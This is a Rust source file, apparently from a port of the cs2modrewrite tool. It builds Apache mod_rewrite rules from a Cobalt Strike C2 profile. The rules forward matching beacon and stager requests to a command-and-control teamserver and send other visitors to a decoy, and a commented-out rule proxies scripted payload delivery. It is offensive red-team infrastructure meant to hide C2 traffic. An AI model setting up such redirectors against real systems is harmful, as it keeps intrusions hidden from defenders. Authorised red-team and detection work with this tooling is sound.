// cs2modrewrite-rust/src/rewrite.rs
use crate::extract::Extraction;
use std::collections::HashSet;

const HTACCESS_TEMPLATE: &str = r#"
########################################
## .htaccess START
RewriteEngine On

## (Optional)
## Scripted Web Delivery
## Uncomment and adjust as needed
#RewriteCond %{REQUEST_URI} ^/css/style1.css?$
#RewriteCond %{HTTP_USER_AGENT} ^$
#RewriteRule ^.*$ "http://TEAMSERVER%{REQUEST_URI}" [P,L]

## Default Beacon Staging Support (/1234)
RewriteCond %{REQUEST_URI} ^/..../?$
RewriteCond %{HTTP_USER_AGENT} "{ua}"
RewriteRule ^.*$ "{c2server}%{REQUEST_URI}" [P,L]

## C2 Traffic (HTTP-GET, HTTP-POST, HTTP-STAGER URIs)
## Logic: If a requested URI AND the User-Agent matches, proxy the connection to the Teamserver
## Consider adding other HTTP checks to fine tune the check.  (HTTP Cookie, HTTP Referer, HTTP Query String, etc)
## Refer to http://httpd.apache.org/docs/current/mod/mod_rewrite.html
## Profile URIs
RewriteCond %{REQUEST_URI} ^({uris})$
## Profile UserAgent
RewriteCond %{HTTP_USER_AGENT} "{ua}"
RewriteRule ^.*$ "{c2server}%{REQUEST_URI}" [P,L]

## Redirect all other traffic here
RewriteRule ^.*$ {redirect}/? [L,R=302]

## .htaccess END
########################################
"#;

/// Whitespace-splits the four raw URI lists and unions them. Uniqueness is
/// the only invariant; iteration order is whatever the set gives us.
pub fn unique_uris(extraction: &Extraction) -> HashSet<String> {
    [
        &extraction.get_uri,
        &extraction.post_uri,
        &extraction.stager_x86,
        &extraction.stager_x64,
    ]
    .iter()
    .flat_map(|raw| raw.split_whitespace())
    .map(str::to_string)
    .collect()
}

/// mod_rewrite matches the User-Agent as a string, so only the grouping
/// metacharacters need escaping.
pub fn escape_user_agent(user_agent: &str) -> String {
    user_agent.replace('(', "\\(").replace(')', "\\)")
}

/// Joins the URI set into a regex alternation. The trailing `.*` per branch
/// lets GET parameters ride along on each URI.
pub fn uri_alternation(uris: &HashSet<String>) -> String {
    let mut alternation = uris.iter().cloned().collect::<Vec<_>>().join(".*|");
    alternation.push_str(".*");
    alternation
}

pub fn render(extraction: &Extraction, c2_server: &str, redirect: &str) -> String {
    let uris = uri_alternation(&unique_uris(extraction));
    let ua = escape_user_agent(&extraction.user_agent);
    HTACCESS_TEMPLATE
        .replace("{uris}", &uris)
        .replace("{ua}", &ua)
        .replace("{c2server}", c2_server)
        .replace("{redirect}", redirect)
}
